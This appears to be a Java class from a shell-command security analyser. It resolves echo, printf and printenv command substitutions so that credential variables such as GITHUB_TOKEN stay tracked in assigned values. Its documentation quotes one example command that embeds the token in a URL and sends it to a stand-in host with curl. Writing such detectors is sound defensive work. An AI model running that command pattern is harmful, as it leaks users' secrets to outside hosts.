package dev.shellwarden.grammar;

import java.util.ArrayList;
import java.util.List;
import java.util.function.Predicate;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The output of a command substitution that only prints literal text and credential-named
 * variables: {@code $(echo "…$GITHUB_TOKEN")}, {@code $(printf '…%s' "$GITHUB_TOKEN")},
 * {@code $(printenv GITHUB_TOKEN)}, also backquoted. Each such variable is written as its braced
 * spelling ({@code ${GITHUB_TOKEN}}), so an assigned value holding one reads as the plain
 * assignment {@code U="…$GITHUB_TOKEN"} does ({@code BashWalker#withSecretSpellings}).
 *
 * <p>WHY (left37b): a value built by a command substitution was not read, so the token in
 * {@code U=$(printf 'https://x.example/?t=%s' "$GITHUB_TOKEN"); curl "$U"} reached its host
 * unread.
 *
 * <p>INVARIANT (fail closed): the output is only ever an added maybe value; any word this does
 * not read (another parameter, a nested substitution, an escape) makes the whole value unread
 * ({@code null}), as before.
 */
final class PrintedOutputs {
    private PrintedOutputs() {
    }

    /** A parameter inside a word: {@code $NAME} or {@code ${NAME}}. */
    private static final Pattern PARAMETER = Pattern.compile("\\$(?:([A-Za-z_][A-Za-z0-9_]*)|\\{([A-Za-z_][A-Za-z0-9_]*)})");
    /** A printed braced spelling, skipped when the output is checked for other specials. */
    private static final Pattern SPELLING = Pattern.compile("\\$\\{[A-Za-z_][A-Za-z0-9_]*}");
    /** A conversion of printf's format ({@code %s}, {@code %-10s}, {@code %%}). */
    private static final Pattern CONVERSION = Pattern.compile("%[-+ #0]*[0-9]*(?:\\.[0-9]*)?[A-Za-z%]");
    /** echo's options. */
    private static final Pattern ECHO_OPTION = Pattern.compile("-[neE]+");

    /**
     * {@code raw} (an assigned value as written) with each command substitution read here
     * replaced by its output (double-quoted where it stood unquoted); null when it holds none or
     * one this does not read. {@code secret} says which variable names are credentials.
     */
    static String inline(String raw, Predicate<String> secret) {
        if (raw.indexOf("$(") < 0 && raw.indexOf('`') < 0) {
            return null;
        }
        StringBuilder out = new StringBuilder();
        boolean inDouble = false;
        boolean any = false;
        int i = 0;
        int n = raw.length();
        while (i < n) {
            char c = raw.charAt(i);
            if (c == '\\' && i + 1 < n) {
                out.append(raw, i, i + 2);
                i += 2;
            } else if (c == '\'' && !inDouble) {
                int close = raw.indexOf('\'', i + 1);
                if (close < 0) {
                    return null;
                }
                out.append(raw, i, close + 1);
                i = close + 1;
            } else if (c == '"') {
                inDouble = !inDouble;
                out.append(c);
                i++;
            } else if (c == '`' || c == '$' && raw.startsWith("$(", i) && !raw.startsWith("$((", i)) {
                int from = c == '`' ? i + 1 : i + 2;
                int close = c == '`' ? raw.indexOf('`', from) : closingParen(raw, from);
                if (close < 0) {
                    return null;
                }
                String printed = output(raw.substring(from, close), secret);
                if (printed == null) {
                    return null;
                }
                out.append(inDouble ? printed : "\"" + printed + "\"");
                any = true;
                i = close + 1;
            } else {
                out.append(c);
                i++;
            }
        }
        return any ? out.toString() : null;
    }

    /** The index of the {@code )} closing a {@code $(} whose text starts at {@code from}; -1 when not plain. */
    private static int closingParen(String raw, int from) {
        int depth = 1;
        for (int i = from; i < raw.length(); i++) {
            char c = raw.charAt(i);
            if (c == '\'') {
                int close = raw.indexOf('\'', i + 1);
                if (close < 0) {
                    return -1;
                }
                i = close;
            } else if (c == '"') {
                int close = raw.indexOf('"', i + 1);
                if (close < 0) {
                    return -1;
                }
                i = close;
            } else if (c == '`' || c == '\\') {
                return -1;
            } else if (c == '(') {
                depth++;
            } else if (c == ')' && --depth == 0) {
                return i;
            }
        }
        return -1;
    }

    /** What {@code command} prints, when it is echo, printf or printenv of words read here; null otherwise. */
    private static String output(String command, Predicate<String> secret) {
        List<String> words = words(command.strip(), secret);
        if (words == null || words.isEmpty()) {
            return null;
        }
        String printed = switch (words.get(0)) {
            case "echo" -> {
                int k = 1;
                while (k < words.size() && ECHO_OPTION.matcher(words.get(k)).matches()) {
                    k++;
                }
                yield String.join(" ", words.subList(k, words.size()));
            }
            case "printf" -> printf(words.subList(1, words.size()));
            case "printenv" -> words.size() == 2 && secret.test(words.get(1)) ? "${" + words.get(1) + "}" : null;
            default -> null;
        };
        if (printed == null) {
            return null;
        }
        // the substitution drops trailing newlines; a tab or newline inside stands as a blank
        printed = printed.replaceAll("(?:\\\\n)+$", "").replace("\\n", " ").replace("\\t", " ");
        String rest = SPELLING.matcher(printed).replaceAll("");
        return rest.chars().anyMatch(ch -> "\"'\\`$\n".indexOf(ch) >= 0) ? null : printed;
    }

    /**
     * printf's output over-approximated: each conversion of the format takes the next argument
     * ({@code %%} is {@code %}), and arguments left over follow, joined by blanks.
     */
    private static String printf(List<String> args) {
        List<String> a = args;
        if (!a.isEmpty() && a.get(0).equals("--")) {
            a = a.subList(1, a.size());
        }
        if (a.isEmpty() || a.get(0).startsWith("-")) {
            return null;
        }
        Matcher m = CONVERSION.matcher(a.get(0));
        StringBuilder out = new StringBuilder();
        int next = 1;
        while (m.find()) {
            String value = m.group().equals("%%") ? "%" : next < a.size() ? a.get(next++) : "";
            m.appendReplacement(out, Matcher.quoteReplacement(value));
        }
        m.appendTail(out);
        for (; next < a.size(); next++) {
            out.append(' ').append(a.get(next));
        }
        return out.toString();
    }

    /**
     * The words of a simple command with quotes removed and each credential-named variable as its
     * braced spelling; null for anything else (another parameter, an operator, a substitution).
     */
    private static List<String> words(String command, Predicate<String> secret) {
        List<String> out = new ArrayList<>();
        StringBuilder w = null;
        int n = command.length();
        int i = 0;
        while (i < n) {
            char c = command.charAt(i);
            if (c == ' ' || c == '\t') {
                if (w != null) {
                    out.add(w.toString());
                    w = null;
                }
                i++;
                continue;
            }
            if (w == null) {
                w = new StringBuilder();
            }
            if (c == '\'') {
                int close = command.indexOf('\'', i + 1);
                if (close < 0) {
                    return null;
                }
                w.append(command, i + 1, close);
                i = close + 1;
            } else if (c == '"') {
                int close = command.indexOf('"', i + 1);
                if (close < 0 || !parameters(command.substring(i + 1, close), true, secret, w)) {
                    return null;
                }
                i = close + 1;
            } else {
                int end = i;
                while (end < n && " \t'\"".indexOf(command.charAt(end)) < 0) {
                    end++;
                }
                if (!parameters(command.substring(i, end), false, secret, w)) {
                    return null;
                }
                i = end;
            }
        }
        if (w != null) {
            out.add(w.toString());
        }
        return out;
    }

    /**
     * Appends {@code part} (unquoted, or the inside of double quotes when {@code quoted}) with its
     * credential parameters spelled; false for anything else.
     */
    private static boolean parameters(String part, boolean quoted, Predicate<String> secret, StringBuilder w) {
        Matcher m = PARAMETER.matcher(part);
        int at = 0;
        while (m.find()) {
            String name = m.group(1) != null ? m.group(1) : m.group(2);
            if (!secret.test(name)) {
                return false;
            }
            w.append(part, at, m.start()).append("${").append(name).append('}');
            at = m.end();
        }
        w.append(part, at, part.length());
        // outside quotes an operator would end the simple command (a glob is kept as written: the
        // output only adds a maybe value)
        String specials = quoted ? "$`\\" : "$`\\;&|<>()\n";
        String plain = PARAMETER.matcher(part).replaceAll("");
        return plain.chars().noneMatch(ch -> specials.indexOf(ch) >= 0);
    }
}
